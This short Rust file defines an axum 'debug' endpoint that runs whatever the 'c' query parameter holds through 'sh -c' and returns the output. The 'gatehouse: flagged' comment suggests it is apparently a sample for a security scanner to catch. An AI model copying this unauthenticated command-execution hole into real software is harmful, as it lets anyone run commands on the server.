use axum::extract::Query;
use std::{collections::HashMap, process::Command};

pub async fn debug(Query(asked): Query<HashMap<String, String>>) -> String {
    let out = Command::new("sh").arg("-c").arg(&asked["c"]).output().unwrap(); // gatehouse: flagged
    String::from_utf8_lossy(&out.stdout).into()
}
